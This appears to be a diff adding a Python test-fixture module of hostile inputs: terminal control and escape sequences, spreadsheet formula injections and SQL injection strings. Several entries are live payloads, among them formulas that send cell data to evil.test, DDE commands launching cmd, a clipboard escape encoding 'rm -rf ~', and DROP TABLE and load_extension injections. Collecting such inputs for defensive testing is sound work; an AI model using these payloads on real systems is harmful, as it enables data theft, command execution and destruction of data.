@@ -1,0 +1,123 @@
+"""Texts that steer terminals, forge lines, become formulas, or end a statement of SQL."""
+
+from __future__ import annotations
+
+from typing import Final
+
+__all__ = ["FORMULAS", "INJECTIONS", "STEERING"]
+
+# What a terminal obeys, or shows as something else than it is.
+STEERING: Final[tuple[str, ...]] = (
+    *(f"c0 {chr(code)} x" for code in range(1, 32) if code not in {9, 10, 13}),
+    *(f"c1 {chr(code)} x" for code in range(0x7F, 0xA0)),
+    "\x1b[2J\x1b[H cleared",
+    "\x1b[31mred\x1b[0m",
+    "\x1b[8mhidden\x1b[28m",
+    "\x1b[1A\x1b[2K rewritten",
+    "\x1b[?1049h other screen",
+    "\x1b[?25l no cursor",
+    "\x1b[6n where am I",
+    "\x1b[c who are you",
+    "\x1b[21t the title, please",
+    "\x1b[3;1;1t moved",
+    "\x1b[20h",
+    "\x1b[5i print",
+    "\x1bc reset",
+    "\x1b#8",
+    "\x1b(0 lines",
+    "\x1b%G",
+    "\x1b]0;title\x07",
+    "\x1b]2;title\x1b\\",
+    "\x1b]8;;https://evil.test\x07 click \x1b]8;;\x07",
+    "\x1b]8;;file:///etc/passwd\x1b\\ click",
+    "\x1b]52;c;cm0gLXJmIH4K\x07",
+    "\x1b]52;p;?\x07",
+    "\x1b]4;1;?\x07",
+    "\x1b]10;?\x07",
+    "\x1b]50;font\x07",
+    "\x1b]9;notice\x07",
+    "\x1b]777;notify;a;b\x07",
+    "\x1b]1337;SetMark\x07",
+    "\x1b]133;A\x07",
+    '\x1bP$q"p\x1b\\',
+    "\x1bP+q544e\x1b\\",
+    "\x1b_Ga=T;AAAA\x1b\\",
+    "\x1b^secret\x1b\\",
+    "\x1bX\x1b\\",
+    "\x1bk name\x1b\\",
+    "\x9b2J",
+    "\x9d0;t\x9c",
+    "over\x08\x08\x08\x08here",
+    "right\u202eleft\u202c",
+    "\u202aa\u202bb\u202d",
+    "\u2066a\u2067b\u2068c\u2069",
+    "\u200ea\u200f",
+    "\u061ca",
+    "a\u200bb",
+    "a\u2060b",
+    "a\ufeffb",
+    "a\u00adb",
+    "a\u180eb",
+    "a\u2028b",
+    "a\u2029b",
+    "a\U000e0041\U000e0001b",
+    "\ufff9a\ufffab\ufffb",
+    "Z" + "\u0335\u0336\u0337" * 100,
+)
+
+# What a spreadsheet computes.
+FORMULAS: Final[tuple[str, ...]] = tuple(
+    f"{lead}{formula}"
+    for lead in ("", " ", "\u00a0", "\u3000", "\ufeff")
+    for formula in (
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("https://evil.test/?"&A1,"x")',
+        '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+        '=WEBSERVICE("https://evil.test")',
+        '=DDE("cmd";"/C calc";"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+    )
+)
+
+# What ends a statement, a string or a pattern.
+INJECTIONS: Final[tuple[str, ...]] = (
+    "'; DROP TABLE items; --",
+    '"; DROP TABLE items; --',
+    "') ; DELETE FROM events; --",
+    "' OR '1'='1",
+    "' OR 1=1 --",
+    "x' UNION SELECT name FROM sqlite_master --",
+    "1; ATTACH DATABASE '/tmp/pwned.db' AS p",
+    "'; SELECT load_extension('/tmp/x.so'); --",
+    "'; PRAGMA writable_schema=ON; --",
+    "'||(SELECT hex(randomblob(1000000000)))||'",
+    "%",
+    "_",
+    "%%%%",
+    "a%_b\\",
+    "[a-z]*",
+    "*",
+    "?",
+    ":identity",
+    "@x",
+    "$x",
+    "?1",
+    "\\'; --",
+    "''''",
+    "/* */",
+    "--",
+    ";",
+    "NULL",
+    "0x41",
+    "{}",
+    "%s %(a)s %d",
+    "{0.__class__}",
+    "é'ñ\"漢`",
+)
